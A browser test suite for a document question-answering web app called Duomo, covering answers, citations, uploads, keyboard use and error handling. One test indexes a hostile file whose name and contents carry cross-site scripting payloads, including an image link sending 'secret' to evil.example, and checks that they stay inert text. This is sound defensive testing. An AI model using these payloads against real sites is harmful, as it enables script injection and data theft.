import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { buildWeb } from '../../scripts/build-web.ts'
import type { Duomo } from '../../src/app/duomo.ts'
import { openDuomo } from '../../src/app/open-duomo.ts'
import { DuomoError } from '../../src/base/errors.ts'
import { createServer, type RunningServer, type ServerOptions } from '../../src/server/server.ts'
import { browserPath, openBrowser } from './browser.ts'

const manual = fileURLToPath(new URL('../../samples/printer-manual.zh.pdf', import.meta.url))
const paper = fileURLToPath(new URL('../../samples/two-column-paper.en.pdf', import.meta.url))

const EVIL = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=2">',
  '<svg/onload=window.hacked=3>',
  '"><iframe srcdoc="<script>parent.hacked=4</script>">',
  '[link](javascript:window.hacked=5)',
  '![picture](https://evil.example/?d=secret)',
  '</q></p><style>body{display:none}</style>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would run
  '${window.hacked=6} {{constructor.constructor("window.hacked=7")()}}',
]

// Expressions for the browser are texts, because this project's types know no browser outside web/.
const FIGURE_WIDTH = `document.querySelector('.answer figure.shown img')?.naturalWidth ?? 0`
const WATCH_VIOLATIONS = `
  window.violations = []
  addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective + ' ' + event.blockedURI))
`
const DROP_FILE = `
  const data = new DataTransfer()
  data.items.add(new File(['x'], 'dropped.bin'))
  for (const type of ['dragenter', 'drop'])
    document.body.dispatchEvent(new DragEvent(type, { dataTransfer: data, bubbles: true, cancelable: true }))
`

describe.skipIf(browserPath === undefined)('the page in a browser', () => {
  let browser: Browser
  let folder: string
  let real: Duomo
  /** What the server sees: the real one unless a test puts something in its way. */
  let duomo: Duomo
  let server: RunningServer
  const pages: Page[] = []
  const outside: string[] = []

  beforeAll(async () => {
    await buildWeb()
    browser = await openBrowser()
    folder = await mkdtemp(join(tmpdir(), 'duomo-page-'))
    const hostile = join(folder, `evil <img src=x onerror=window.hacked=8>.md`)
    await writeFile(
      hostile,
      `# Hostile ${EVIL[0]}\n\nThe hostile paragraph says \`${EVIL.join(' ')}\` to you.\n\n| Hostile cell | ${'`<b onclick=window.hacked=9>`'} |\n|---|---|\n| quicksilver | 42 |\n`,
    )
    real = await openDuomo({ data: join(folder, 'data') })
    for await (const result of real.add([manual, paper, hostile])) expect(result.status).toBe('indexed')
  })
  afterAll(async () => {
    await browser?.close()
    await real?.close()
    if (folder) await rm(folder, { recursive: true })
  })

  beforeEach(async () => {
    duomo = { ...real }
    server = await open()
  })
  afterEach(async () => {
    for (const page of pages.splice(0)) {
      // Whatever a test did: nothing was blocked, nothing was loaded from elsewhere, nothing ran.
      expect(await page.evaluate('[window.violations, window.hacked ?? null]')).toEqual([[], null])
      await page.context().close()
    }
    expect(outside.splice(0)).toEqual([])
    await server.close()
  })

  function open(options: ServerOptions = {}): Promise<RunningServer> {
    return createServer(duomo, { port: 0, ...options })
  }

  async function visit(options: BrowserContextOptions = {}): Promise<Page> {
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 }, locale: 'en-GB', ...options })
    const page = await context.newPage()
    page.setDefaultTimeout(30_000)
    await page.addInitScript(WATCH_VIOLATIONS)
    page.on('request', (request) => {
      if (!request.url().startsWith(server.url) && !request.url().startsWith('blob:')) outside.push(request.url())
    })
    page.on('pageerror', (error) => outside.push(String(error)))
    page.on('dialog', (dialog) => outside.push(dialog.message()))
    await page.goto(server.url)
    await page.locator('.documents .row, .welcome.first, .error').first().waitFor({ state: 'attached' })
    pages.push(page)
    return page
  }

  async function ask(page: Page, question: string): Promise<void> {
    await page.locator('#question').fill(question)
    await page.locator('#question').press('Enter')
    await page.locator('.turn:last-child:not(.running)').waitFor()
  }

  it('answers with table and chip, and draws the box of the very cell on its page', async () => {
    const page = await visit()
    await ask(page, '彩色打印速度是多少？')
    expect(await page.locator('.answer .said').innerText()).toMatch(/7\s?页/)
    expect(await page.locator('.answer mark').innerText()).toContain('彩色')
    await page.locator('.sheet .region').waitFor()
    expect(await page.locator('.viewer-bar').innerText()).toContain('Page 3 of 3')

    // The drawn box is where the evidence says, whatever the size of the picture.
    const answer = await real.ask('彩色打印速度是多少？')
    const [region] = answer.evidence[0]?.regions ?? []
    const { pages: sizes } = await real.document(answer.evidence[0]?.documentId ?? '')
    const size = sizes[(region?.page ?? 1) - 1]
    const sheet = await page.locator('.sheet').boundingBox()
    const drawn = await page.locator('.sheet .region').boundingBox()
    const scale = (sheet?.width ?? 0) / (size?.width ?? 1)
    expect((drawn?.x ?? 0) - (sheet?.x ?? 0)).toBeCloseTo(((region?.box?.x ?? 0) - 2.4) * scale, -1)
    expect((drawn?.y ?? 0) - (sheet?.y ?? 0)).toBeCloseTo(((region?.box?.y ?? 0) - 2.4) * scale, -1)
    expect(await page.locator('.viewer-body').evaluate((body) => body.scrollTop)).toBeGreaterThan(0)
  })

  it('shows a figure inside the answer', async () => {
    const page = await visit()
    await ask(page, 'Show me the architecture figure.')
    await expect.poll(() => page.evaluate<number>(FIGURE_WIDTH), { timeout: 20_000 }).toBeGreaterThan(100)
  })

  it('asks with a picture, which is seen before and after, and gone from the next question', async () => {
    const page = await visit()
    const shown: unknown[] = []
    duomo.ask = (question, options) => {
      shown.push(
        typeof question === 'string' ? question : [question.text, question.images?.map(({ length }) => length)],
      )
      return real.ask(question, options)
    }
    const { documentId } = (await real.list()).find(({ paths }) => paths[0]?.includes('manual')) ?? { documentId: '' }
    const picture = {
      name: 'crop.png',
      mimeType: 'image/png',
      buffer: Buffer.from(await real.pagePicture(documentId, 1)),
    }
    const choose = async () => {
      const choosing = page.waitForEvent('filechooser')
      await page.getByRole('button', { name: 'Ask with a picture' }).click()
      await (await choosing).setFiles(picture)
      await page.locator('.enclosed img:not(.loading)').waitFor()
    }
    await choose()
    await page.getByRole('button', { name: 'Take away crop.png' }).click()
    expect(await page.locator('.enclosed img').count()).toBe(0)
    await choose()
    await page.getByText('中文').click()
    await page.locator('.enclosed img:not(.loading)').waitFor()
    await ask(page, '彩色打印速度是多少？')
    expect(await page.locator('.turn .asked img').getAttribute('alt')).toBe('问题所附图片：crop.png')
    expect(await page.locator('.enclosed img').count()).toBe(0)
    await ask(page, '质保多久？')
    expect(shown).toEqual([['彩色打印速度是多少？', [picture.buffer.length]], '质保多久？'])
  })

  it('keeps hostile text as text everywhere', async () => {
    const page = await visit()
    await ask(page, 'hostile quicksilver')
    await ask(page, 'What does the hostile paragraph say?')
    const said = await page.locator('.turns').innerText()
    expect(said).toContain('<script>window.hacked=1</script>')
    expect(said).toContain('<img src=x onerror="window.hacked=2">')
    await page.locator('.documents .open', { hasText: 'evil' }).click()
    await page.locator('.reading').waitFor()
    expect(await page.locator('.reading').innerText()).toContain('</q></p><style>')
    expect(await page.locator('body script, iframe, a[href^="javascript"], img[src^="http"], style').count()).toBe(0)
  })

  it('has its own look for what is not in the documents', async () => {
    const page = await visit()
    await ask(page, 'Who wrote Hamlet?')
    expect(await page.locator('.refusal h3').first().innerText()).toBe('Not in your documents')
    expect(await page.locator('.error').count()).toBe(0)
  })

  it('never takes a failure for an answer, and asks again', async () => {
    const page = await visit()
    duomo.ask = () => Promise.reject(new DuomoError('store-failed', 'no index', { hint: 'Look at the disk.' }))
    await ask(page, 'safety')
    const error = page.locator('.turn .error')
    expect(await error.innerText()).toContain('This does not mean that the documents lack the answer')
    expect(await error.innerText()).toContain('no index Look at the disk.')
    expect(await page.locator('.refusal').count()).toBe(0)
    duomo.ask = real.ask
    await error.getByRole('button').click()
    await page.locator('.turn:last-child.answered').waitFor()
  })

  it('stops a question on Escape, at the server too', async () => {
    const page = await visit()
    const stopped = new Promise<void>((done) => {
      duomo.ask = (_, options) =>
        new Promise((_done, fail) =>
          options?.signal?.addEventListener('abort', () => {
            done()
            fail(options.signal?.reason)
          }),
        )
    })
    await page.locator('#question').fill('slow')
    await page.locator('#question').press('Enter')
    await page.locator('.turn.running').waitFor()
    await page.keyboard.press('Escape')
    await page.locator('.turn.stopped').waitFor()
    await stopped
  })

  it('leaves Enter to an input method while it composes', async () => {
    const page = await visit()
    const input = page.locator('#question')
    await input.fill('彩色')
    for (const init of [
      { key: 'Enter', isComposing: true },
      { key: 'Enter', keyCode: 229 },
      { key: 'Enter', shiftKey: true },
    ])
      await input.dispatchEvent('keydown', { bubbles: true, cancelable: true, ...init })
    expect(await page.locator('.turn').count()).toBe(0)
    expect(await input.inputValue()).toBe('彩色')
    await input.press('Enter')
    await page.locator('.turn').waitFor()
  })

  it('is used by keys: a number opens a source, Escape closes it, a slash writes', async () => {
    const page = await visit()
    await ask(page, 'Who wrote Hamlet?')
    await page.locator('.turn h2').click()
    await page.locator('#question').blur()
    await page.keyboard.press('1')
    await page.locator('.viewer:not(.empty)').waitFor()
    await page.keyboard.press('Escape')
    await page.locator('.viewer.empty').waitFor()
    await page.keyboard.press('/')
    await page.locator('#question:focus').waitFor()
    await page.keyboard.type('1')
    expect(await page.locator('.viewer.empty').count()).toBe(1)
  })

  it('changes language and theme, keeps what was said, and remembers', async () => {
    const page = await visit({ locale: 'zh-CN' })
    expect(await page.locator('html').getAttribute('lang')).toBe('zh-CN')
    await ask(page, '彩色打印速度是多少？')
    await page.locator('#question').fill('half written')
    await page.getByText('English').click()
    expect(await page.locator('html').getAttribute('lang')).toBe('en')
    expect(await page.locator('.sources h3').first().innerText()).toBe('Sources')
    expect(await page.locator('#question').inputValue()).toBe('half written')
    for (const theme of ['light', 'dark']) {
      await page.getByRole('button', { name: /^Theme/ }).click()
      expect(await page.locator('html').getAttribute('data-theme')).toBe(theme)
    }
    await page.reload()
    expect(await page.locator('html').getAttribute('lang')).toBe('en')
    expect(await page.locator('html').getAttribute('data-theme')).toBe('dark')
  })

  it.each(['zh-CN', 'en-GB'])('fits a narrow screen in every state (%s)', async (locale) => {
    const page = await visit({ locale, viewport: { width: 320, height: 640 }, hasTouch: true })
    const fits = async () => {
      expect(await page.evaluate('document.documentElement.scrollWidth - innerWidth')).toBeLessThanOrEqual(0)
    }
    await fits()
    await ask(page, '彩色打印速度是多少？')
    await fits()
    const chip = page.locator('.chip').first()
    await chip.click()
    await page.locator('.sheet .region').waitFor()
    await fits()
    await page.locator('.viewer .close').click()
    await page.locator('.chip:focus').waitFor()
    await page.locator('.head .list').click()
    await page.locator('.documents .open').first().waitFor()
    await fits()
    await page.keyboard.press('Escape')
    await ask(page, 'Who wrote Hamlet?')
    await fits()
  })

  it('names every button', async () => {
    const page = await visit()
    await ask(page, 'Show me the architecture figure.')
    const nameless = await page
      .locator('button')
      .evaluateAll((all) =>
        all
          .filter((one) => !(one.getAttribute('aria-label') ?? one.textContent ?? '').trim())
          .map((one) => one.outerHTML),
      )
    expect(nameless).toEqual([])
  })

  it('begins with a document, takes files, says why one failed, and removes', async () => {
    await server.close()
    duomo = await openDuomo({ data: join(folder, 'other') })
    server = await open()
    const page = await visit()
    expect(await page.locator('.welcome h2').innerText()).toBe('Begin with a document')
    const [chooser] = await Promise.all([
      page.waitForEvent('filechooser'),
      page.getByRole('button', { name: 'Choose files' }).click(),
    ])
    await chooser.setFiles([
      { name: '阀门.md', mimeType: 'text/markdown', buffer: Buffer.from('# 阀门\n\n安全阀在 6.5 巴时开启。') },
      { name: 'empty.pdf', mimeType: 'application/pdf', buffer: Buffer.alloc(0) },
    ])
    await page.locator('.row.bad').waitFor()
    expect(await page.locator('.row.bad').innerText()).toMatch(/empty\.pdf\s+could not be read · The file is empty\./)
    await page.locator('.row.indexed').waitFor()
    await ask(page, '安全阀在多少巴时开启？')
    expect(await page.locator('.said').innerText()).toContain('6.5')
    await page.locator('.reading .cited').waitFor()

    await page.getByRole('button', { name: 'Remove 阀门.md' }).click()
    await page.getByRole('button', { name: 'Remove?' }).click()
    await expect.poll(() => page.locator('.row.indexed').count(), { timeout: 20_000 }).toBe(0)
    await duomo.close()
  })

  it('shows how far a file has come, also after a reload', async () => {
    let finish = () => {}
    const finished = new Promise<void>((done) => {
      finish = done
    })
    duomo.add = async function* (paths, options) {
      const file = paths[0]?.split('/').at(-1) ?? ''
      options?.onProgress?.({ stage: 'read', file, done: 0, total: 1, page: 3, pages: 10, elapsedMs: 1 })
      await finished
      yield { file, status: 'indexed', pages: 10, elements: {}, problems: [], skipped: [], ms: 1 }
    }
    const page = await visit()
    await page.evaluate(DROP_FILE)
    await page.getByText('reading page 3 of 10').waitFor()
    expect(await page.locator('.row', { hasText: 'dropped.bin' }).count()).toBe(1)
    await page.reload()
    await page.getByText('reading page 3 of 10').waitFor()
    finish()
    await page.locator('.row', { hasText: 'dropped.bin' }).waitFor({ state: 'detached' })
  })

  it('takes files that are dropped on it', async () => {
    const received: string[] = []
    duomo.add = async function* (paths) {
      for (const path of paths) {
        const file = path.split('/').at(-1) ?? ''
        received.push(file)
        yield { file, status: 'skipped', pages: 0, elements: {}, problems: [], skipped: [], ms: 1 }
      }
    }
    const page = await visit()
    await page.evaluate(DROP_FILE)
    await page.locator('.row.bad').waitFor()
    expect(await page.locator('.row.bad').innerText()).toContain('not a kind that can be read')
    expect(received).toEqual(['dropped.bin'])
  })

  it('says when the server is gone, and comes back with it', async () => {
    const page = await visit()
    const { port } = server
    await server.close()
    await ask(page, 'anything')
    expect(await page.locator('.turn .error').innerText()).toContain('The server can’t be reached.')
    server = await open({ port })
    await page.locator('.turn .error button').click()
    await page.locator('.turn:last-child.answered').waitFor()
  })

  it('asks for the server’s key and shows pictures with it', async () => {
    await server.close()
    const key = 'correct horse battery staple'
    server = await open({ key })
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 }, locale: 'en-GB' })
    const page = await context.newPage()
    await page.goto(server.url)
    await page.getByLabel('Key').fill('a wrong one')
    await page.getByRole('button', { name: 'Enter' }).click()
    await page.getByText('That is not the key.').waitFor()
    await page.getByLabel('Key').fill(key)
    await page.getByRole('button', { name: 'Enter' }).click()
    await page.locator('.documents .row').first().waitFor()
    await ask(page, '彩色打印速度是多少？')
    await page.locator('.sheet img').waitFor()
    await context.close()
  })
})
